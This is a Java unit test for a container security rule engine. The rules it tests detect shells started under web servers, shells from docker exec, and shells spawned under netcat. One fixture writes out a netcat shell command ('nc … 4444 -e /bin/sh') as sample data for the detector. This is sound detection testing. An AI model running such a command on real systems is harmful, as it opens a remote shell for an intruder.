package dev.dockward.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Conditions over who started a process: {@code proc.parent} and {@code proc.ancestors}, which the
 * real-time source puts on exec events. A shell under a web server is not a shell under {@code
 * docker exec}.
 */
class ParentConditionsTest {
  private static final String RULES =
      """
            rules:
              - id: shell_under_web_server
                description: A web server (or a shell it started) ran a shell.
                condition: >-
                  event.type == "exec" && container.id != "" && proc.name in lists.shells
                  && (proc.parent.name in lists.web_servers
                      || proc.ancestors.exists(a, a.name in lists.web_servers))
                severity: high
                tags: [mitre.T1505.003]
                output: "{proc.name} under {evidence.parent} in {container.name}"
                evidence:
                  parent: proc.parent.name
                  parent_cmdline: proc.parent.cmdline
                  chain: proc.ancestors.map(a, a.name)
              - id: shell_from_docker_exec
                description: A shell whose parent runs the installed containerd-shim (docker exec).
                condition: >-
                  event.type == "exec" && container.id != "" && proc.name in lists.shells
                  && proc.parent.runtime.startsWith("containerd-shim")
                severity: low
                tags: [mitre.T1059.004]
                output: "{proc.name} from docker exec in {container.name}"
            lists:
              shells: [sh, bash, ash, dash]
              web_servers: [nginx, httpd, apache2, caddy, php-fpm]
            """;

  private final RuleEngine engine = new RuleEngine(loaded().ruleSet());

  private static LoadResult loaded() {
    LoadResult result = Fixtures.load("parent.yaml", RULES);
    assertEquals(List.of(), result.problems());
    return result;
  }

  @Test
  void aShellWhoseParentIsTheWebServerFires() {
    List<RuleMatch> matches = engine.evaluate(Fixtures.event("exec_shell_under_web_server"));
    assertEquals(
        List.of("shell_under_web_server"), matches.stream().map(m -> m.rule().id()).toList());
    Map<String, Object> evidence = matches.get(0).evidence();
    assertEquals("nginx", evidence.get("parent"));
    assertEquals("nginx: worker process", evidence.get("parent_cmdline"));
    assertEquals(List.of("nginx", "nginx", "containerd-shim", "systemd"), evidence.get("chain"));
  }

  @Test
  void aShellStartedByAShellOfTheWebServerFiresThroughTheAncestors() {
    assertEquals(
        List.of("shell_under_web_server"),
        Fixtures.firedIds(engine, Fixtures.event("exec_shell_under_shell_under_web_server")));
  }

  @Test
  void aShellFromDockerExecIsToldByItsParentsRuntimeNotByAWebServer() {
    assertEquals(
        List.of("shell_from_docker_exec"),
        Fixtures.firedIds(engine, Fixtures.event("exec_shell_from_docker_exec")));
  }

  @Test
  void aParentsAndAncestorsProgramIsSeenWhenCommIsExe() {
    LoadResult loaded =
        Fixtures.load(
            "program.yaml",
            """
                rules:
                  - id: shell_under_netcat
                    description: A shell whose parent or an ancestor is netcat, told by its program.
                    condition: >-
                      event.type == "exec" && (proc.parent.program == "nc"
                          || proc.ancestors.exists(a, a.program == "nc"))
                    severity: high
                    tags: [mitre.T1059.004]
                    output: "{proc.name} under netcat"
                """);
    assertEquals(List.of(), loaded.problems());
    RuleEngine programs = new RuleEngine(loaded.ruleSet());
    // Debian's static busybox runs nc through /proc/self/exe: its comm is "exe"
    Map<String, Object> nc =
        Map.of(
            "pid",
            4300L,
            "name",
            "exe",
            "exe",
            "/bin/busybox",
            "program",
            "nc",
            "cmdline",
            "nc 172.17.0.5 4444 -e /bin/sh");
    Map<String, Object> underNc =
        Map.of(
            "kind",
            "event",
            "type",
            "exec",
            "process",
            Map.of(
                "pid",
                4301L,
                "name",
                "sh",
                "exe",
                "/bin/busybox",
                "parent",
                nc,
                "ancestors",
                List.of(nc)));
    assertEquals(List.of("shell_under_netcat"), Fixtures.firedIds(programs, underNc));
    // Without parent facts (the /proc scan): the parent's program is "", nothing fails
    Map<String, Object> bare =
        Map.of("kind", "event", "type", "exec", "process", Map.of("pid", 4302L, "name", "sh"));
    assertEquals(List.of(), Fixtures.firedIds(programs, bare));
    assertEquals(0, programs.stats().values().stream().mapToLong(RuleStats::errors).sum());
  }

  @Test
  void anExecWithoutParentFactsMatchesNeitherAndFailsNothing() {
    // Seen by the /proc scan, or recorded before parents were recorded: the defaults hold.
    assertEquals(List.of(), Fixtures.firedIds(engine, Fixtures.event("exec_shell_in_container")));
    assertEquals(0, engine.stats().values().stream().mapToLong(RuleStats::errors).sum());
  }
}
